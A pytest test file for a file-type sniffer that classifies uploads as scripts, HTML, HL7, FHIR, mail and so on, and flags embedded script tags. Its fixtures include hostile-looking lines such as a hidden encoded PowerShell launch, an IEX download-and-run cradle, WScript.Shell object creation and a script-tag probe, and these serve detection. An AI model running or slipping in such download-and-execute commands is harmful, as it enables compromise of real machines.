import time

import pytest

from formats.families import Family
from formats.textual import has_hidden_script, kind_of_text


@pytest.mark.parametrize(
    ("text", "media_type"),
    [
        (b"#!/bin/sh\necho x", "text/x-shellscript"),
        (b"<?php echo 1;", "text/x-php"),
        (b"@ECHO OFF\r\ndel x", "text/x-msdos-batch"),
        (b"[InternetShortcut]\r\nURL=http://x", "application/x-mswinurl"),
        (b"[.ShellClassInfo]\r\n", "application/x-windows-desktop-ini"),
        (b"Windows Registry Editor Version 5.00", "text/x-ms-regedit"),
        (b"ID;PWXL;N;E\r\n", "application/x-sylk"),
        (b"WEB\r\n1\r\nhttp://x", "text/x-ms-iqy"),
        (b"<html><HTA:APPLICATION id=a>", "application/hta"),
        (b"Dim s\r\nOn Error Resume Next\r\n", "text/vbscript"),
        (b'Set s = CreateObject("WScript.Shell")', "text/vbscript"),
        (b"var a = new ActiveXObject('x');", "text/javascript"),
        (b"param([string]$Name)\nWrite-Host", "text/x-powershell"),
        (b"<!-- a remark --><doc/>", "application/xml"),
        (b"<?xml version='1.0'?><!DOCTYPE doc [<!ENTITY a 'b'>]><doc/>", "application/xml"),
        (b"<!DOCTYPE html><p>", "text/html"),
        (b"<!-- a --><!-- b --><html>", "text/html"),
        (b"<div>hi</div>", "text/html"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "image/svg+xml"),
        (b"<?xml version='1.0'?><svg/>", "image/svg+xml"),
        (b"<?xml version='1.0'?><ClinicalDocument/>", "application/hl7-cda+xml"),
        (b"<?xml version='1.0'?><n1:ClinicalDocument/>", "application/hl7-cda+xml"),
        (
            b"<?xml version='1.0'?><xsl:stylesheet><x:ClinicalDocument/></xsl:stylesheet>",
            "application/hl7-cda+xml",
        ),
        (
            b"<?xml version='1.0'?><xsl:stylesheet><xsl:template match='ClinicalDocument'/>",
            "application/xml",
        ),
        (b"<a1><b/></a1>", "application/xml"),
        (b"MSH|^~\\&|LAB|CHU\rPID|1", "application/hl7-v2"),
        (b"\x0bMSH|^~\\&|LAB\r\x1c\r", "application/hl7-v2"),
        (b"FHS|^~\\&|LAB\rBHS|", "application/hl7-v2"),
        (b'{"resourceType": "Patient"}', "application/fhir+json"),
        (b'{"resourceType":"A"}\n{"resourceType":"B"}\n', "application/fhir+ndjson"),
        (b'{"a": 1}\n{"a": 2}\n', "application/x-ndjson"),
        (b'[{"a": 1}]', "application/json"),
        (b"Received: from a\nFrom: b\nTo: c\nSubject: d\n\nHi", "message/rfc822"),
        (b"From a@b Mon Jan  1 10:00:00 2024\nReceived: x", "application/mbox"),
        (b"a;b;c\n1;2;3\n4;5;6\n", "text/csv"),
        (b'"a","b"\n"1,5","2"\n"3","4"\n', "text/csv"),
        (b"BEGIN:VCARD\n", "text/vcard"),
        (b"powershell -nop -w hidden -enc AAAA", "text/x-powershell"),
        (b"IEX(New-Object Net.WebClient).DownloadString('https://x')", "text/x-powershell"),
        (b"$a = New-Object System.Net.WebClient\n", "text/x-powershell"),
        (b"rem a job\r\n:: another remark\r\nsetlocal\r\n", "text/x-msdos-batch"),
        (b"start /min cmd", "text/x-msdos-batch"),
        (b"#@~^xQAAAA==", "text/x-encoded-script"),
        (b'x = 1\nSet h = CreateObject("MSXML2.XMLHTTP")\n', "text/vbscript"),
        (b"H|~^\\&|1|LAB|20240101\rP|1\r", "application/hprim"),
        (b"<?xml version='1.0'?><kmehrmessage xmlns='x'/>", "application/kmehr+xml"),
        (b"<Patient xmlns='http://hl7.org/fhir'><id/></Patient>", "application/fhir+xml"),
        (
            b"<evenementsPatients xmlns='http://www.hprim.org/hprimXML'/>",
            "application/hprim+xml",
        ),
        (
            b"From: <Saved by Blink>\nMIME-Version: 1.0\nContent-Type: multipart/related\n\n--x",
            "application/x-mimearchive",
        ),
    ],
)
def test_each_text_is_what_its_features_say(text: bytes, media_type: str) -> None:
    """The beginning, or a strong feature, tells what a text is for."""
    assert kind_of_text(text).media_type == media_type


@pytest.mark.parametrize(
    "prose",
    [
        b"Dear colleague, the patient is well.",
        b"MZ patient list",
        b"Run powershell -enc only when told to. See the handbook.",
        b"Date: yesterday\nthe patient came in",
        b"From the ward: all is well.",
        b"<3 and other signs",
        b"<!-- a remark -->\n# A heading\n\n<a/>",
        b"Then type: iex ((New-Object Net.WebClient).DownloadString('https://x'))",
        b"{curly} words at the start",
        b"The macro calls On Error Resume Next, says the manual.",
        b"MSH is short for something",
        b"Start the machine, then press /",
        b"remark: the patient came in",
        b"H|I think so",
    ],
)
def test_prose_stays_prose(prose: bytes) -> None:
    """A text that mentions a command, a header or a tag is no script, mail or page."""
    assert kind_of_text(prose).media_type == "text/plain"


def test_scripts_are_in_a_family_that_policy_never_lets_in() -> None:
    """A script is prohibited by its family, whatever its name."""
    assert kind_of_text(b"#!/usr/bin/env python3").family is Family.SCRIPT
    assert kind_of_text(b"REGEDIT4\r\n").family is Family.LAUNCHER


def test_a_script_tag_inside_a_text_is_seen() -> None:
    """What a browser would run is noted wherever it stands in the first bytes."""
    assert has_hidden_script(b"words <SCRIPT>alert(1)</SCRIPT>")
    assert not has_hidden_script(b"words and a manuscript>")


@pytest.mark.parametrize(
    "hostile",
    [
        b"<!---->" * 9000,
        b"\n \n" * 20_000 + b"param",
        b"createobject(" * 5000,
        b"powershell " * 6000,
    ],
)
def test_repetition_costs_no_more_than_its_length(hostile: bytes) -> None:
    """No pattern goes back and forth over hostile repetition."""
    started = time.process_time()
    kind_of_text(hostile)
    assert time.process_time() - started < 1.0


@pytest.mark.parametrize(
    "text",
    [
        b"<?xml version='1.0'?>\n<!-- rules -->\n<!ELEMENT note (to, from)>\n",
        b"<!-- Copyright -->\n<!ENTITY % text 'x'>\n%text;\n",
        b"<![INCLUDE[<!ATTLIST a b CDATA #IMPLIED>]]>",
    ],
)
def test_the_rules_of_a_vocabulary_are_no_document(text: bytes) -> None:
    """No root has to follow declarations, so that nothing is missing behind them."""
    assert kind_of_text(text).media_type == "text/plain"


def test_declarations_before_a_root_are_those_of_its_document() -> None:
    """A document type holds them in brackets."""
    text = b"<?xml version='1.0'?><!DOCTYPE a [<!ELEMENT a EMPTY>]><a/>"
    assert kind_of_text(text).media_type == "application/xml"


@pytest.mark.parametrize(
    ("text", "media_type"),
    [
        (b"{% load i18n %}<p>Bonjour</p>", "text/html"),
        (b'{% extends "a" %}\n{% block b %}Bonjour{% endblock %}', "text/plain"),
        (b"{{ a }}\nwords {{ b }}\n", "text/plain"),
        (b"[% INCLUDE a %]\n[% END %]", "text/plain"),
        (b'{"a": 1}', "application/json"),
        (b"Content-type: text/html; charset=UTF-8\n\n<!DOCTYPE html><p>a</p>", "text/html"),
        (b"Content-type: text/html\n\nwords", "text/plain"),
    ],
)
def test_templates_are_pages_or_words_and_no_data(text: bytes, media_type: str) -> None:
    """What an engine replaces begins like JSON, and is none."""
    assert kind_of_text(text).media_type == media_type


@pytest.mark.parametrize(
    "text", [b"{ 'a': [1] }", b"{ words in braces }", b"{ // a remark\n}", b"[*.py]\nindent = [x]"]
)
def test_what_only_begins_like_json_is_a_text(text: bytes) -> None:
    """Settings of other programs have names without quotation marks, and remarks."""
    assert kind_of_text(text).media_type == "text/plain"
    assert kind_of_text(b'[\n  {"a": 1}\n]').media_type == "application/json"
    for before in (b"/* a */", b"% a %}"):
        resource = b"{" + before + b'"resourceType": "Patient"}'
        assert kind_of_text(resource).media_type == "application/fhir+json"
